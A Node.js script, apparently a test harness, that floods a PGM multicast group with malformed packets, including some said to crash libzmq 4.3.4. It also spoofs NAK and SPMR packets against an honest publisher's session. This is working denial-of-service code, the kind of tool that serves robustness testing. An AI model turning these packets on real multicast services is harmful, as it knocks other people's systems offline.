// Sends datagrams to a multicast group that no honest sender would, for as long as standard input
// stays open: node multicast_storm.mjs <address> <group> <port> all|survivable. "survivable" are
// those that a libzmq process does not end itself for. Says how many it has sent.
import { createSocket } from 'node:dgram'
import { once } from 'node:events'

const [address, group, portText, which] = process.argv.slice(2)
const port = Number(portText)
const types = { spm: 0, odata: 4, rdata: 5, nak: 8, ncf: 10, spmr: 12 }

/** A PGM packet; `tsi` is that of the session it claims to belong to. */
function packet(type, tsi, body, { tsdu = 0, options = 0, upstream = false, spoil = 0 } = {}) {
  const header = Buffer.alloc(16)
  header.writeUInt16BE(upstream ? port : tsi.port, 0)
  header.writeUInt16BE(upstream ? tsi.port : port, 2)
  header[4] = type
  header[5] = options
  header.set(tsi.gsi, 8)
  header.writeUInt16BE(tsdu & 0xffff, 14)
  const whole = Buffer.concat([header, body])
  let sum = 0
  for (let i = 0; i < whole.length; i++) sum += whole[i] << (i % 2 ? 0 : 8)
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16)
  whole.writeUInt16BE((~sum & 0xffff || 0xffff) ^ spoil, 6)
  return whole
}

const numbers = (...values) => {
  const bytes = Buffer.alloc(4 * values.length)
  for (const [i, value] of values.entries()) bytes.writeUInt32BE(value >>> 0, 4 * i)
  return bytes
}
const nla = (text) => Buffer.from([0, 1, 0, 0, ...text.split('.').map(Number)])
const spm = (tsi, sqn, trail, lead) => {
  return packet(types.spm, tsi, Buffer.concat([numbers(sqn, trail, lead), nla(address)]))
}
const odata = (tsi, sqn, data, more) => {
  const body = Buffer.concat([numbers(sqn, 0), data])
  return packet(types.odata, tsi, body, { tsdu: data.length, ...more })
}
const naks = (tsi, source, first, count) => {
  const list = Buffer.alloc(8 + 4 * (count - 1))
  list[1] = 4
  list.writeUInt16BE(list.length, 2)
  list[4] = 0x82
  list[5] = list.length - 4
  for (let i = 1; i < count; i++) list.writeUInt32BE((first + i) >>> 0, 4 + 4 * i)
  const body = Buffer.concat([numbers(first), nla(source), nla(group), list])
  return packet(types.nak, tsi, body, { options: 3, upstream: true })
}

let strangers = 0
const stranger = () => {
  strangers++
  const gsi = Buffer.from([9, 9, 9, 9, strangers >> 8, strangers & 0xff])
  return { gsi, port: 1 + (strangers % 60_000) }
}

/** Every option, at every length it can claim, whatever it really has. */
function malformedOptions() {
  const all = []
  for (let type = 0; type <= 0x14; type++) {
    for (const length of [0, 1, 2, 3, 4, 5, 8, 12, 16, 20, 128, 255]) {
      const option = Buffer.from([0, 4, 0, 16, 0x80 | type, length, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
      const tsi = stranger()
      all.push(packet(types.odata, tsi, Buffer.concat([numbers(5, 0), option]), { options: 1 }))
      const body = Buffer.concat([numbers(0, 0, 7), nla(address), option])
      all.push(packet(types.spm, tsi, body, { options: 3 }))
    }
  }
  return all
}

/** What libzmq 4.3.4 ends itself for. */
function deadly() {
  const all = [Buffer.alloc(0)]
  const data = Buffer.from([0, 0, 2, 0, 65])
  for (const body of [Buffer.alloc(0), Buffer.alloc(1), Buffer.from([0x27, 0x0f, 2, 0, 65])]) {
    const tsi = stranger()
    all.push(spm(tsi, 0, 0, 0xffffffff), odata(tsi, 0, body))
  }
  const tsi = stranger()
  for (const [sqn, offset] of [
    [0, 0],
    [1, 3],
  ]) {
    const option = Buffer.concat([
      Buffer.from([0, 4, 0, 20, 0x81, 16, 0, 0]),
      numbers(0, offset, 5),
    ])
    const part = offset ? data.subarray(3) : data.subarray(0, 3)
    const body = Buffer.concat([numbers(sqn, 0), option, part])
    all.push(packet(types.odata, tsi, body, { options: 1, tsdu: part.length }))
  }
  return [...all, ...malformedOptions()]
}

/** What must not harm anybody; `victim` is the session of an honest publisher. */
function survivable(victim) {
  const all = []
  const zero = stranger()
  all.push(spm(zero, 0, 0, 0xffffffff), odata(zero, 0, Buffer.from([0, 0, 0, 0, 2, 0, 65])))
  const huge = Buffer.from([0, 0, 255, 0x40, 0, 0, 0, 0, 0, 0, 0, 0, 65])
  const other = stranger()
  all.push(spm(other, 0, 0, 0xffffffff), odata(other, 0, huge))
  const good = odata(stranger(), 0, Buffer.from([0, 0, 2, 0, 65]), { spoil: 0x5555 })
  all.push(good)
  for (let length = 1; length < good.length; length++) all.push(good.subarray(0, length))
  for (let first = 0; first < 2000; first += 63) {
    all.push(naks(victim.tsi, victim.address, first, 62))
    all.push(naks(victim.tsi, victim.address, first - 0x7fffffff, 62))
  }
  all.push(packet(types.spmr, victim.tsi, Buffer.alloc(0), { upstream: true }))
  return all
}

const socket = createSocket({ type: 'udp4', reuseAddr: true })
socket.bind(port, group)
await once(socket, 'listening')
socket.addMembership(group, address)
socket.setMulticastInterface(address)
socket.setMulticastLoopback(false)
const [heard, from] = await once(socket, 'message')
const tsi = { gsi: Buffer.from(heard.subarray(8, 14)), port: heard.readUInt16BE(0) }
const victim = { tsi, address: from.address }
socket.dropMembership(group, address)

let open = true
process.stdin.resume().on('end', () => {
  open = false
})
let sent = 0
while (open) {
  const datagrams = survivable(victim)
  if (which === 'all') datagrams.push(...deadly())
  for (const datagram of datagrams) {
    socket.send(datagram, port, group)
    socket.send(datagram, port, victim.address)
    sent += 2
    if (sent % 50 === 0) await new Promise((resolve) => setTimeout(resolve, 1))
  }
}
process.stdout.write(`${sent}\n`)
process.exit(0)
